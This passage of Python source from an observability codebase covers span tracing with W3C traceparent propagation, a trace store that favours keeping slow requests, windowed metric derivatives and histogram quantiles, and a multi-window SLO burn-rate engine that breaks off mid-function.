                    bound = float("inf") if le == "+Inf" else float(le)
                    member_buckets.setdefault(key, {})[bound] = sample.value
                    if sample.exemplar is not None:
                        exemplars.setdefault(key, {})[bound] = sample.exemplar
                elif sample.name in (name + "_sum", name + "_count"):
                    key = tuple(sorted(sample.labels.items()))
                    groups.setdefault(key, dict(sample.labels))
                    target = sums if sample.name.endswith("_sum") else counts
                    target[key] = target.get(key, 0.0) + sample.value
            for key, series in member_buckets.items():
                buckets.setdefault(key, []).append(sorted(series.items()))
        lines = []
        for key in sorted(groups):
            labels = groups[key]
            merged = merge_cumulative(buckets.get(key, []))
            group_exemplars = exemplars.get(key, {})
            for bound, cumulative in merged:
                bucket_labels = dict(labels)
                bucket_labels["le"] = _format_value(bound)
                lines.append(
                    _sample_line(
                        name + "_bucket", bucket_labels, cumulative, group_exemplars.get(bound)
                    )
                )
            lines.append(_sample_line(name + "_sum", labels, sums.get(key, 0.0)))
            lines.append(_sample_line(name + "_count", labels, counts.get(key, 0.0)))
        return lines


def _sample_line(
    name: str, labels: dict[str, str], value: float, exemplar: Exemplar | None = None
) -> str:
    line = f"{name}{_format_labels(labels)} {_format_value(value)}"
    if exemplar is not None:
        line += (
            f' # {{trace_id="{_escape_label_value(exemplar.trace_id)}"}}'
            f" {_format_value(exemplar.value)}"
        )
    return line
