"""Distributed-tracing primitives: spans, trace propagation, retention.

Aggregate counters answer "how is the service doing"; they cannot answer
"what exactly happened to *this* script" — which pipeline stages ran,
where the time went, whether the work crossed into an isolated worker
process, and why the verdict came out the way it did.  This module is the
per-request layer underneath that question:

* :class:`SpanContext` — the propagated identity of a trace position,
  parsed from / rendered to the W3C ``traceparent`` header
  (``00-<trace_id>-<span_id>-<flags>``), so external callers can stitch
  our spans into their own traces,
* :class:`Span` — one named, timed operation with attributes, point-in-time
  events, and an ok/error status; spans nest via :meth:`Span.child` and a
  finished trace is the flat list of its span dicts,
* :class:`Tracer` — thread-safe factory with per-trace head sampling: the
  decision is made once at the root (inherited from the parent context
  when one is propagated) and unsampled traces cost a single no-op object,
* :class:`TraceStore` — bounded in-memory ring with a *slow-scan retention
  bias*: traces whose root exceeds the latency threshold are always kept
  until capacity forces them out, fast traces are the first evicted.

Spans deliberately serialize to plain dicts rather than a class hierarchy:
they must cross process boundaries in worker reply envelopes
(:mod:`repro.faults.workers`), be grafted between traces by the daemon,
and round-trip through JSON on the debug endpoints.
"""

from __future__ import annotations

import os
import random
import re
import threading
import time
from collections import OrderedDict
from dataclasses import dataclass
from typing import Any, Callable

#: ``traceparent`` grammar (W3C Trace Context, version 00 field layout).
_TRACEPARENT = re.compile(r"^([0-9a-f]{2})-([0-9a-f]{32})-([0-9a-f]{16})-([0-9a-f]{2})$")

#: Hard cap on spans buffered per trace: a pathological batch cannot turn
#: the tracer into a memory leak.  Overflow is counted on the root span.
MAX_SPANS_PER_TRACE = 512


def new_trace_id() -> str:
    return os.urandom(16).hex()


def new_span_id() -> str:
    return os.urandom(8).hex()


@dataclass(frozen=True)
class SpanContext:
    """The propagated identity of one position in one trace."""

    trace_id: str  # 32 lowercase hex chars, not all-zero
    span_id: str  # 16 lowercase hex chars, not all-zero
    sampled: bool = True

    def to_traceparent(self) -> str:
        """Render the W3C ``traceparent`` header value."""
        return f"00-{self.trace_id}-{self.span_id}-{'01' if self.sampled else '00'}"

    @classmethod
    def parse(cls, header: str | None) -> "SpanContext | None":
        """Parse a ``traceparent`` header; ``None`` for absent/malformed.

        Unknown versions are accepted with version-00 field semantics (the
        spec's forward-compatibility rule); all-zero ids are invalid.
        """
        if not header:
            return None
        match = _TRACEPARENT.match(header.strip().lower())
        if match is None:
            return None
        version, trace_id, span_id, flags = match.groups()
        if version == "ff" or trace_id == "0" * 32 or span_id == "0" * 16:
            return None
        try:
            sampled = bool(int(flags, 16) & 0x01)
        except ValueError:  # pragma: no cover - regex guarantees hex
            return None
        return cls(trace_id=trace_id, span_id=span_id, sampled=sampled)


class _TraceBuf:
    """Finished-span buffer shared by every span of one trace."""

    def __init__(self, trace_id: str):
        self.trace_id = trace_id
        self.spans: list[dict] = []
        self.dropped = 0
        self._lock = threading.Lock()

    def add(self, span_dict: dict) -> None:
        with self._lock:
            if len(self.spans) >= MAX_SPANS_PER_TRACE:
                self.dropped += 1
                return
            self.spans.append(span_dict)


class Span:
    """One named, timed operation inside a trace.

    Usable as a context manager (an exception marks the span ``error``
    before re-raising) or via explicit :meth:`end`.  Thread-safe through
    the shared trace buffer; a span itself is owned by one thread.
    """

    __slots__ = (
        "name", "trace_id", "span_id", "parent_id", "attributes", "events",
        "status", "status_detail", "start_unix", "_start_perf", "_buf",
        "_tracer", "_is_root", "_ended", "sampled",
    )

    def __init__(
        self,
        tracer: "Tracer | None",
        buf: _TraceBuf,
        name: str,
        parent_id: str | None,
        attributes: dict | None = None,
        is_root: bool = False,
    ):
        self.name = name
        self.trace_id = buf.trace_id
        self.span_id = new_span_id()
        self.parent_id = parent_id
        self.attributes: dict[str, Any] = dict(attributes or {})
        self.events: list[dict] = []
        self.status = "ok"
        self.status_detail: str | None = None
        self.start_unix = time.time()
        self._start_perf = time.perf_counter()
        self._buf = buf
        self._tracer = tracer
        self._is_root = is_root
        self._ended = False
        self.sampled = True

    # ------------------------------------------------------------ interface

    @property
    def recording(self) -> bool:
        return True

    @property
    def context(self) -> SpanContext:
        return SpanContext(trace_id=self.trace_id, span_id=self.span_id, sampled=True)

    def child(self, name: str, attributes: dict | None = None) -> "Span":
        return Span(self._tracer, self._buf, name, parent_id=self.span_id, attributes=attributes)

    def set_attribute(self, key: str, value: Any) -> None:
        self.attributes[key] = value

    def add_event(self, name: str, **attributes: Any) -> None:
        self.events.append(
            {"name": name, "offset_ms": round(1000.0 * (time.perf_counter() - self._start_perf), 3),
             **({"attributes": attributes} if attributes else {})}
        )

    def set_status(self, status: str, detail: str | None = None) -> None:
        self.status = status
        self.status_detail = detail

    def add_span_dict(self, span_dict: dict) -> None:
        """Attach an externally built (worker/synthesized) span to this trace."""
        span_dict = dict(span_dict)
        span_dict["trace_id"] = self.trace_id
        self._buf.add(span_dict)

    def synthesize(
        self,
        name: str,
        duration_ms: float,
        parent_id: str | None = None,
        span_id: str | None = None,
        attributes: dict | None = None,
        events: list[dict] | None = None,
        status: str = "ok",
        status_detail: str | None = None,
    ) -> dict:
        """Record an already-finished span (timing measured elsewhere).

        Used for stages whose cost is known only as a measured duration —
        per-file stage timings, worker-side work that never reported back —
        and returns the dict so callers can parent further spans to it.
        """
        span_dict = {
            "name": name,
            "trace_id": self.trace_id,
            "span_id": span_id or new_span_id(),
            "parent_id": parent_id or self.span_id,
            "start_unix": round(time.time(), 6),
            "duration_ms": round(float(duration_ms), 3),
            "attributes": dict(attributes or {}),
            "events": list(events or []),
            "status": status,
        }
        if status_detail is not None:
            span_dict["status_detail"] = status_detail
        self._buf.add(span_dict)
        return span_dict

    def end(self) -> None:
        if self._ended:
            return
        self._ended = True
        if self._is_root and self._buf.dropped:
            self.attributes["dropped_spans"] = self._buf.dropped
        self._buf.add(self.to_dict())
        if self._is_root and self._tracer is not None:
            self._tracer._finish_trace(self._buf)

    def to_dict(self) -> dict:
        out = {
            "name": self.name,
            "trace_id": self.trace_id,
            "span_id": self.span_id,
            "parent_id": self.parent_id,
            "start_unix": round(self.start_unix, 6),
            "duration_ms": round(1000.0 * (time.perf_counter() - self._start_perf), 3),
            "attributes": dict(self.attributes),
            "events": list(self.events),
            "status": self.status,
        }
        if self.status_detail is not None:
            out["status_detail"] = self.status_detail
        return out

    def __enter__(self) -> "Span":
        return self

    def __exit__(self, exc_type, exc, tb) -> bool:
        if exc_type is not None:
            self.set_status("error", f"{exc_type.__name__}: {exc}")
        self.end()
        return False


class NullSpan:
    """Unsampled stand-in: same surface as :class:`Span`, zero recording.

    Carries a real :class:`SpanContext` (so trace ids still propagate to
    responses and downstream services) but every mutation is a no-op and
    :meth:`child` returns ``self`` — an unsampled trace allocates exactly
    one object no matter how many spans the sampled path would create.
    """

    __slots__ = ("_context",)

    def __init__(self, context: SpanContext):
        self._context = context

    @property
    def recording(self) -> bool:
        return False

    @property
    def context(self) -> SpanContext:
        return self._context

    def child(self, name: str, attributes: dict | None = None) -> "NullSpan":
        return self

    def set_attribute(self, key: str, value: Any) -> None:
        pass

    def add_event(self, name: str, **attributes: Any) -> None:
        pass

    def set_status(self, status: str, detail: str | None = None) -> None:
        pass

    def add_span_dict(self, span_dict: dict) -> None:
        pass

    def synthesize(self, name: str, duration_ms: float, **kwargs: Any) -> dict:
        return {}

    def end(self) -> None:
        pass

    def __enter__(self) -> "NullSpan":
        return self

    def __exit__(self, *exc) -> bool:
        return False


class Tracer:
    """Thread-safe span factory with head-based per-trace sampling.

    Args:
        sample_rate: Probability a *new* trace (no propagated parent) is
            recorded.  A propagated parent's sampled flag always wins —
            that is what makes an inbound ``traceparent`` with the sampled
            bit set observable end to end.
        sink: ``sink(trace_id, spans)`` called once when a root span ends;
            typically :meth:`TraceStore.put`.  ``None`` discards (callers
            that collect spans from the root's buffer, e.g. the scanner
            attaching them to a :class:`~repro.pipeline.ScanReport`, read
            them before the sink would).
    """

    def __init__(self, sample_rate: float = 1.0, sink: Callable[[str, list[dict]], None] | None = None):
        if not 0.0 <= sample_rate <= 1.0:
            raise ValueError("sample_rate must be within [0, 1]")
        self.sample_rate = sample_rate
        self.sink = sink
        self._rng = random.Random()  # sampling only; never verdict-relevant

    def start_trace(
        self,
        name: str,
        parent: SpanContext | None = None,
        attributes: dict | None = None,
        force: bool | None = None,
    ) -> Span | NullSpan:
        """Open a root span, deciding the whole trace's sampling fate.

        Precedence: explicit ``force`` > propagated ``parent.sampled`` >
        ``sample_rate`` coin flip.  Unsampled roots are :class:`NullSpan`s
        that still carry the (propagated or fresh) trace id.
        """
        if force is not None:
            sampled = force
        elif parent is not None:
            sampled = parent.sampled
        else:
            sampled = self.sample_rate > 0.0 and self._rng.random() < self.sample_rate
        trace_id = parent.trace_id if parent is not None else new_trace_id()
        if not sampled:
            return NullSpan(SpanContext(trace_id=trace_id, span_id=new_span_id(), sampled=False))
        buf = _TraceBuf(trace_id)
        return Span(
            self,
            buf,
            name,
            parent_id=parent.span_id if parent is not None else None,
            attributes=attributes,
            is_root=True,
        )

    def _finish_trace(self, buf: _TraceBuf) -> None:
        if self.sink is not None:
            self.sink(buf.trace_id, buf.spans)


def trace_spans(span: Span | NullSpan) -> list[dict]:
    """The finished spans buffered so far for ``span``'s trace."""
    if not span.recording:
        return []
    assert isinstance(span, Span)
    return list(span._buf.spans)


def span_tree(spans: list[dict]) -> list[dict]:
    """Assemble flat span dicts into nested trees (children by parent id).

    Spans whose parent is absent from the list (e.g. a subtree extracted
    from a larger trace, or a root parented to a remote caller's span)
    become roots.  Children are ordered by start time.  Input dicts are
    shallow-copied; the originals are not mutated.
    """
    nodes = {s["span_id"]: {**s, "children": []} for s in spans}
    roots: list[dict] = []
    for node in nodes.values():
        parent = nodes.get(node.get("parent_id") or "")
        if parent is None or parent is node:
            roots.append(node)
        else:
            parent["children"].append(node)
    for node in nodes.values():
        node["children"].sort(key=lambda n: n.get("start_unix", 0.0))
    roots.sort(key=lambda n: n.get("start_unix", 0.0))
    return roots


class TraceStore:
    """Bounded trace ring with slow-scan retention bias.

    Retention policy, in order:

    1. fast traces (root duration below ``slow_ms``) are admitted with
       probability ``keep_rate`` (1.0 keeps everything),
    2. at ``capacity``, the oldest *fast* trace is evicted first; only when
       every resident trace is slow does the oldest slow one go,

    so the traces most likely to matter for a latency investigation are
    the last to disappear.  All operations are thread-safe; memory is
    bounded by ``capacity`` times the per-trace span cap.
    """

    def __init__(self, capacity: int = 256, slow_ms: float = 250.0, keep_rate: float = 1.0):
        if capacity < 1:
            raise ValueError("capacity must be positive")
        if not 0.0 <= keep_rate <= 1.0:
            raise ValueError("keep_rate must be within [0, 1]")
        self.capacity = capacity
        self.slow_ms = slow_ms
        self.keep_rate = keep_rate
        self._traces: OrderedDict[str, dict] = OrderedDict()  # insertion = age order
        self._lock = threading.Lock()
        self._rng = random.Random()
        self.stored = 0
        self.dropped = 0
        self.evicted = 0

    @staticmethod
    def _root_of(spans: list[dict]) -> dict | None:
        roots = [s for s in spans if not s.get("parent_id")]
        if roots:
            return max(roots, key=lambda s: s.get("duration_ms", 0.0))
        return spans[0] if spans else None

    def put(self, trace_id: str, spans: list[dict]) -> bool:
        """Admit one finished trace; returns whether it was kept."""
        if not spans:
            return False
        root = self._root_of(spans)
        duration_ms = float(root.get("duration_ms", 0.0)) if root else 0.0
        slow = duration_ms >= self.slow_ms
        if not slow and self.keep_rate < 1.0 and self._rng.random() >= self.keep_rate:
            with self._lock:
                self.dropped += 1
            return False
        record = {
            "trace_id": trace_id,
            "root": root["name"] if root else "<unknown>",
            "duration_ms": duration_ms,
            "status": root.get("status", "ok") if root else "ok",
            "slow": slow,
            "n_spans": len(spans),
            "stored_unix": round(time.time(), 6),
            "spans": list(spans),
        }
        with self._lock:
            self._traces[trace_id] = record
            self._traces.move_to_end(trace_id)
            while len(self._traces) > self.capacity:
                victim = next(
                    (tid for tid, rec in self._traces.items() if not rec["slow"]),
                    next(iter(self._traces)),
                )
                del self._traces[victim]
                self.evicted += 1
            self.stored += 1
        return True

    def get(self, trace_id: str) -> dict | None:
        """Full stored trace: summary fields plus flat spans and the tree."""
        with self._lock:
            record = self._traces.get(trace_id)
            if record is None:
                return None
            record = dict(record)
        record["tree"] = span_tree(record["spans"])
        return record

    def list(
        self, n: int = 20, slow_ms: float | None = None, status: str | None = None
    ) -> list[dict]:
        """Newest-first trace summaries (no span bodies).

        ``slow_ms`` keeps only traces whose root took at least that long;
        ``status`` keeps only traces whose root ended in that status —
        together they are the jump from an SLO ``page`` state to the
        offending traces without dumping the whole ring.
        """
        with self._lock:
            records = list(self._traces.values())
        records.reverse()
        if slow_ms is not None:
            records = [r for r in records if r["duration_ms"] >= slow_ms]
        if status is not None:
            records = [r for r in records if r["status"] == status]
        return [
            {key: record[key] for key in
             ("trace_id", "root", "duration_ms", "status", "slow", "n_spans", "stored_unix")}
            for record in records[: max(n, 0)]
        ]

    def __len__(self) -> int:
        with self._lock:
            return len(self._traces)
