"""Scrape-snapshot ring with windowed derivatives.

The federation loop (:mod:`repro.obs.fleet` wiring in the router) parses
each member's ``/v1/metrics`` every few seconds; this module is where
those snapshots become *operational* numbers: per-window request rate,
error rate, and latency percentiles reconstructed from cumulative
histogram buckets.  The SLO engine (:mod:`repro.obs.slo`) and
``GET /v1/status`` both read through this ring.

Design points:

* One bounded deque of :class:`Snapshot` per source ("shard-0", …,
  "router"), so memory is ``capacity × members × exposition size`` and a
  shard that stops reporting simply ages out of its windows.
* Derivatives are computed between the newest snapshot and the **oldest
  snapshot inside the window** — a young ring answers over the span it
  actually has rather than refusing, which keeps ``repro top`` live from
  the first two scrapes.
* Counter resets (shard restart) clamp per-series deltas at zero instead
  of going negative — the standard Prometheus ``rate()`` posture.

The shared quantile helpers live here too: :func:`percentile` (linearly
interpolated, the loadgen's latency math) and :func:`bucket_quantile`
(percentiles from cumulative buckets, the fleet's latency math) — one
definition of "p95" across benches, dashboards, and SLOs.
"""

from __future__ import annotations

import math
import threading
import time
from collections import deque
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass

from .metrics import ParsedFamily

#: A label filter: a dict is matched as a subset, a callable decides.
LabelWhere = dict[str, str] | Callable[[dict[str, str]], bool] | None


def percentile(samples: Sequence[float], quantile: float) -> float:
    """Linearly interpolated quantile (0–1) of ``samples``; NaN if empty."""
    if not 0.0 <= quantile <= 1.0:
        raise ValueError("quantile must be within [0, 1]")
    ordered = sorted(samples)
    if not ordered:
        return float("nan")
    rank = quantile * (len(ordered) - 1)
    low = math.floor(rank)
    high = math.ceil(rank)
    if low == high:
        return float(ordered[low])
    fraction = rank - low
    return float(ordered[low]) * (1.0 - fraction) + float(ordered[high]) * fraction


def bucket_quantile(cumulative: Sequence[tuple[float, float]], quantile: float) -> float:
    """Quantile reconstructed from cumulative ``(le, count)`` buckets.

    Linear interpolation inside the owning bucket (the
    ``histogram_quantile`` model); observations in the ``+Inf`` bucket
    answer with the largest finite bound — a lower bound is the honest
    estimate there.  NaN when the buckets are empty.
    """
    if not 0.0 <= quantile <= 1.0:
        raise ValueError("quantile must be within [0, 1]")
    if not cumulative:
        return float("nan")
    total = cumulative[-1][1]
    if total <= 0:
        return float("nan")
    target = quantile * total
    previous_bound = 0.0
    previous_count = 0.0
    for bound, count in cumulative:
        if count >= target and count > previous_count:
            if math.isinf(bound):
                return previous_bound
            span = count - previous_count
            fraction = (target - previous_count) / span if span > 0 else 1.0
            return previous_bound + (bound - previous_bound) * fraction
        previous_bound = previous_bound if math.isinf(bound) else bound
        previous_count = count
    return previous_bound


def merge_cumulative(
    series: Iterable[Sequence[tuple[float, float]]],
) -> list[tuple[float, float]]:
    """Merge cumulative bucket series bucket-wise over the bound union.

    Members sharing bounds (the normal fleet case — every shard runs the
    same code) sum exactly.  A member missing a bound contributes its
    cumulative count at its own largest bound below it: a lower bound
    that keeps the merged series monotone and the ``+Inf`` total exact.
    """
    series = [list(s) for s in series]
    bounds = sorted({bound for one in series for bound, _ in one})
    merged: list[tuple[float, float]] = []
    for bound in bounds:
        total = 0.0
        for one in series:
            value = 0.0
            for member_bound, count in one:
                if member_bound <= bound:
                    value = count
                else:
                    break
            total += value
        merged.append((bound, total))
    return merged


def _matches(labels: dict[str, str], where: LabelWhere) -> bool:
    if where is None:
        return True
    if callable(where):
        return bool(where(labels))
    return all(labels.get(key) == value for key, value in where.items())


@dataclass(frozen=True)
class Snapshot:
    """One member's parsed exposition at one scrape instant."""

    ts: float
    families: dict[str, ParsedFamily]


@dataclass
class HistogramWindow:
    """One histogram family's activity inside a window."""

    buckets: list[tuple[float, float]]  # cumulative (le, count delta)
    count: float
    sum: float
    window_s: float

    @property
    def rate(self) -> float:
        return self.count / self.window_s if self.window_s > 0 else 0.0

    def quantile(self, quantile: float) -> float:
        return bucket_quantile(self.buckets, quantile)

    def below(self, threshold: float) -> float:
        """Observations at or under ``threshold`` (largest bound ≤ it)."""
        value = 0.0
        for bound, count in self.buckets:
            if bound <= threshold:
                value = count
            else:
                break
        return value


class TimeseriesRing:
    """Bounded per-source ring of scrape snapshots, with derivatives."""

    def __init__(self, capacity: int = 240):
        if capacity < 2:
            raise ValueError("capacity must be at least 2 (derivatives need a pair)")
        self.capacity = capacity
        self._series: dict[str, deque[Snapshot]] = {}
        self._lock = threading.Lock()

    # ------------------------------------------------------------- writing

    def append(
        self, source: str, families: dict[str, ParsedFamily], ts: float | None = None
    ) -> None:
        snapshot = Snapshot(ts=time.time() if ts is None else float(ts), families=families)
        with self._lock:
            ring = self._series.get(source)
            if ring is None:
                ring = self._series[source] = deque(maxlen=self.capacity)
            ring.append(snapshot)

    def forget(self, source: str) -> None:
        with self._lock:
            self._series.pop(source, None)

    # ------------------------------------------------------------- reading

    @property
    def sources(self) -> list[str]:
        with self._lock:
            return sorted(self._series)

    def latest(self, source: str) -> Snapshot | None:
        with self._lock:
            ring = self._series.get(source)
            return ring[-1] if ring else None

    def window(
        self, source: str, window_s: float, now: float | None = None
    ) -> tuple[Snapshot, Snapshot] | None:
        """(oldest-in-window, newest) snapshot pair; ``None`` without two.

        ``now`` defaults to the newest snapshot's timestamp, so a ring
        that stopped being fed still answers about its own era.
        """
        with self._lock:
            ring = self._series.get(source)
            if not ring or len(ring) < 2:
                return None
            snapshots = list(ring)
        newest = snapshots[-1]
        horizon = (newest.ts if now is None else float(now)) - float(window_s)
        for snapshot in snapshots[:-1]:
            if snapshot.ts >= horizon:
                if snapshot.ts >= newest.ts:
                    return None
                return snapshot, newest
        return None

    # Counter families --------------------------------------------------

    def counter_delta(
        self,
        source: str,
        family: str,
        window_s: float,
        now: float | None = None,
        where: LabelWhere = None,
    ) -> float | None:
        """Summed increase of ``family``'s matching series in the window."""
        pair = self.window(source, window_s, now=now)
        if pair is None:
            return None
        old_snapshot, new_snapshot = pair
        new_family = new_snapshot.families.get(family)
        if new_family is None:
            return None
        old_values = _sample_values(old_snapshot.families.get(family), family, where)
        delta = 0.0
        for key, value in _sample_values(new_family, family, where).items():
            delta += max(0.0, value - old_values.get(key, 0.0))
        return delta

    def counter_rate(
        self,
        source: str,
        family: str,
        window_s: float,
        now: float | None = None,
        where: LabelWhere = None,
    ) -> float | None:
        """Per-second increase of ``family`` over the window's real span."""
        pair = self.window(source, window_s, now=now)
        if pair is None:
            return None
        delta = self.counter_delta(source, family, window_s, now=now, where=where)
        if delta is None:
            return None
        span = pair[1].ts - pair[0].ts
        return delta / span if span > 0 else 0.0

    # Histogram families -------------------------------------------------

    def histogram_window(
        self,
        source: str,
        family: str,
        window_s: float,
        now: float | None = None,
        where: LabelWhere = None,
    ) -> HistogramWindow | None:
        """Bucket/count/sum deltas of ``family`` inside the window,
        merged over its matching label-sets."""
        pair = self.window(source, window_s, now=now)
        if pair is None:
            return None
        old_snapshot, new_snapshot = pair
        new_family = new_snapshot.families.get(family)
        if new_family is None or new_family.kind != "histogram":
            return None
        old_family = old_snapshot.families.get(family)
        new_buckets = _bucket_values(new_family, family, where)
        old_buckets = _bucket_values(old_family, family, where)
        per_series: list[list[tuple[float, float]]] = []
        for key, buckets in new_buckets.items():
            old = old_buckets.get(key, {})
            deltas = [
                (bound, max(0.0, count - old.get(bound, 0.0)))
                for bound, count in sorted(buckets.items())
            ]
            # A reset series (any negative raw delta) restarts from zero —
            # clamping bucket-wise keeps the cumulative shape monotone.
            per_series.append(_monotone(deltas))
        merged = merge_cumulative(per_series) if per_series else []
        count = _suffix_delta(new_family, old_family, family, "_count", where)
        total = _suffix_delta(new_family, old_family, family, "_sum", where)
        span = new_snapshot.ts - old_snapshot.ts
        return HistogramWindow(buckets=merged, count=count, sum=total, window_s=max(span, 0.0))

    def quantile(
        self,
        source: str,
        family: str,
        quantile: float,
        window_s: float,
        now: float | None = None,
        where: LabelWhere = None,
    ) -> float | None:
        """Windowed quantile of a histogram family; ``None`` without data."""
        window = self.histogram_window(source, family, window_s, now=now, where=where)
        if window is None or not window.buckets or window.buckets[-1][1] <= 0:
            return None
        return window.quantile(quantile)


def _labels_key(labels: dict[str, str]) -> tuple[tuple[str, str], ...]:
    return tuple(sorted(labels.items()))


def _sample_values(
    family: ParsedFamily | None,
    name: str,
    where: LabelWhere,
) -> dict[tuple[tuple[str, str], ...], float]:
    if family is None:
        return {}
    return {
        _labels_key(sample.labels): sample.value
        for sample in family.samples
        if sample.name == name and _matches(sample.labels, where)
    }


def _bucket_values(
    family: ParsedFamily | None,
    name: str,
    where: LabelWhere,
) -> dict[tuple[tuple[str, str], ...], dict[float, float]]:
    """``_bucket`` samples grouped by label-set (minus ``le``)."""
    grouped: dict[tuple[tuple[str, str], ...], dict[float, float]] = {}
    if family is None:
        return grouped
    for sample in family.samples:
        if sample.name != name + "_bucket" or "le" not in sample.labels:
            continue
        labels = {key: value for key, value in sample.labels.items() if key != "le"}
        if not _matches(labels, where):
            continue
        bound = float("inf") if sample.labels["le"] == "+Inf" else float(sample.labels["le"])
        grouped.setdefault(_labels_key(labels), {})[bound] = sample.value
    return grouped


def _monotone(buckets: list[tuple[float, float]]) -> list[tuple[float, float]]:
    out: list[tuple[float, float]] = []
    running = 0.0
    for bound, count in buckets:
        running = max(running, count)
        out.append((bound, running))
    return out


def _suffix_delta(
    new_family: ParsedFamily,
    old_family: ParsedFamily | None,
    name: str,
    suffix: str,
    where: LabelWhere,
) -> float:
    old_values = _sample_values(old_family, name + suffix, where)
    delta = 0.0
    for key, value in _sample_values(new_family, name + suffix, where).items():
        delta += max(0.0, value - old_values.get(key, 0.0))
    return delta
