"""Declarative SLOs with multi-window burn-rate alert states.

An objective is a *budget* for bad events: ``availability ≥ 99.9%``
leaves 0.1% of requests allowed to fail; ``p95 ≤ 500ms`` leaves 5% of
requests allowed to be slower than 500ms.  The **burn rate** is how fast
the fleet is spending that budget — ``bad_ratio / budget`` — so burn 1.0
exactly exhausts the budget over the objective's nominal period and burn
14.4 torches it an order of magnitude faster.

The engine follows the multi-window discipline: a state only escalates
when **both** a fast window (reacts in seconds) and a slow window
(suppresses blips) are burning — ``page`` at :attr:`SLOEngine.page_burn`,
``warn`` at :attr:`SLOEngine.warn_burn`, else ``ok``.  Windows are read
from a :class:`~repro.obs.timeseries.TimeseriesRing` of scrape
snapshots, so the whole evaluation is a pure function of
(ring, specs, clock) — testable on synthetic snapshots, no sleeping.

States surface three ways, all fed by :meth:`SLOEngine.evaluate`:

* the ``slo`` block of the router's ``GET /v1/status``,
* ``repro_slo_burn_rate{slo,window}`` and ``repro_slo_state{slo}``
  gauges (0 ok / 1 warn / 2 page) on the router registry,
* the ``repro top`` dashboard's SLO column.
"""

from __future__ import annotations

import math
from dataclasses import dataclass
from typing import TYPE_CHECKING

from .timeseries import TimeseriesRing

if TYPE_CHECKING:  # pragma: no cover
    from .metrics import MetricsRegistry

STATE_OK = "ok"
STATE_WARN = "warn"
STATE_PAGE = "page"

#: Gauge encoding for ``repro_slo_state``.
STATE_CODES = {STATE_OK: 0, STATE_WARN: 1, STATE_PAGE: 2}


@dataclass(frozen=True)
class SLOSpec:
    """One declarative objective.

    ``kind="availability"``: ``objective`` is the success-ratio target
    (0.999 → 99.9%); bad events are 5xx answers counted from
    ``requests_family``.

    ``kind="latency"``: ``objective`` is the quantile (0.95 → p95) that
    must sit at or under ``threshold_s``; bad events are observations
    above the threshold, counted from ``latency_family`` buckets.
    """

    name: str
    kind: str  # "availability" | "latency"
    objective: float
    threshold_s: float = 0.5
    requests_family: str = "repro_http_requests_total"
    latency_family: str = "repro_router_request_seconds"

    def validate(self) -> None:
        if self.kind not in ("availability", "latency"):
            raise ValueError(f"unknown SLO kind {self.kind!r}")
        if not 0.0 < self.objective < 1.0:
            raise ValueError("objective must be strictly between 0 and 1")
        if self.kind == "latency" and self.threshold_s <= 0:
            raise ValueError("threshold_s must be positive")

    @property
    def budget(self) -> float:
        """The allowed bad-event ratio (1 − objective)."""
        return 1.0 - self.objective

    def describe(self) -> str:
        if self.kind == "availability":
            return f"availability >= {self.objective * 100:g}%"
        return f"p{self.objective * 100:g} <= {self.threshold_s * 1000:g}ms"


def default_slos() -> tuple[SLOSpec, ...]:
    """The router's boot objectives: front-door availability and scan tail."""
    return (
        SLOSpec(name="availability", kind="availability", objective=0.999),
        SLOSpec(name="scan-latency", kind="latency", objective=0.95, threshold_s=0.5),
    )


@dataclass
class SLOStatus:
    """One objective's evaluated state, ready for /v1/status."""

    name: str
    kind: str
    objective: str
    state: str
    burn_fast: float
    burn_slow: float
    bad_fast: float
    total_fast: float
    bad_slow: float
    total_slow: float
    window_fast_s: float
    window_slow_s: float

    def to_dict(self) -> dict:
        return {
            "name": self.name,
            "kind": self.kind,
            "objective": self.objective,
            "state": self.state,
            "burn_rate": {
                "fast": round(self.burn_fast, 3),
                "slow": round(self.burn_slow, 3),
            },
            "windows": {
                "fast": {
                    "seconds": self.window_fast_s,
                    "bad": self.bad_fast,
                    "total": self.total_fast,
                },
                "slow": {
                    "seconds": self.window_slow_s,
                    "bad": self.bad_slow,
                    "total": self.total_slow,
                },
            },
        }


class SLOEngine:
    """Evaluates objectives over a snapshot ring; owns the SLO gauges."""

    def __init__(
        self,
        specs: tuple[SLOSpec, ...] | list[SLOSpec] | None = None,
        fast_window_s: float = 60.0,
        slow_window_s: float = 300.0,
        warn_burn: float = 6.0,
        page_burn: float = 14.4,
        metrics: "MetricsRegistry | None" = None,
    ):
        self.specs = tuple(specs) if specs is not None else default_slos()
        for spec in self.specs:
            spec.validate()
        if not 0 < fast_window_s < slow_window_s:
            raise ValueError("need 0 < fast_window_s < slow_window_s")
        if not 0 < warn_burn <= page_burn:
            raise ValueError("need 0 < warn_burn <= page_burn")
        self.fast_window_s = fast_window_s
        self.slow_window_s = slow_window_s
        self.warn_burn = warn_burn
        self.page_burn = page_burn
        self._m_burn: dict[tuple[str, str], object] = {}
        self._m_state: dict[str, object] = {}
        if metrics is not None:
            for spec in self.specs:
                for window in ("fast", "slow"):
                    self._m_burn[(spec.name, window)] = metrics.gauge(
                        "repro_slo_burn_rate",
                        "Error-budget burn rate per objective and window",
                        labels={"slo": spec.name, "window": window},
                    )
                self._m_state[spec.name] = metrics.gauge(
                    "repro_slo_state",
                    "Alert state per objective: 0 ok, 1 warn, 2 page",
                    labels={"slo": spec.name},
                )

    # ------------------------------------------------------------ evaluate

    def evaluate(
        self, ring: TimeseriesRing, source: str = "router", now: float | None = None
    ) -> list[SLOStatus]:
        """All objectives against ``source``'s snapshots; updates gauges."""
        out = []
        for spec in self.specs:
            bad_fast, total_fast = self._window_counts(ring, spec, source, self.fast_window_s, now)
            bad_slow, total_slow = self._window_counts(ring, spec, source, self.slow_window_s, now)
            burn_fast = self._burn(spec, bad_fast, total_fast)
            burn_slow = self._burn(spec, bad_slow, total_slow)
            if burn_fast >= self.page_burn and burn_slow >= self.page_burn:
                state = STATE_PAGE
            elif burn_fast >= self.warn_burn and burn_slow >= self.warn_burn:
                state = STATE_WARN
            else:
                state = STATE_OK
            status = SLOStatus(
                name=spec.name,
                kind=spec.kind,
                objective=spec.describe(),
                state=state,
                burn_fast=burn_fast,
                burn_slow=burn_slow,
                bad_fast=bad_fast,
                total_fast=total_fast,
                bad_slow=bad_slow,
                total_slow=total_slow,
                window_fast_s=self.fast_window_s,
                window_slow_s=self.slow_window_s,
            )
            out.append(status)
            burn_gauge = self._m_burn.get((spec.name, "fast"))
            if burn_gauge is not None:
                burn_gauge.set(burn_fast)  # type: ignore[attr-defined]
            burn_gauge = self._m_burn.get((spec.name, "slow"))
            if burn_gauge is not None:
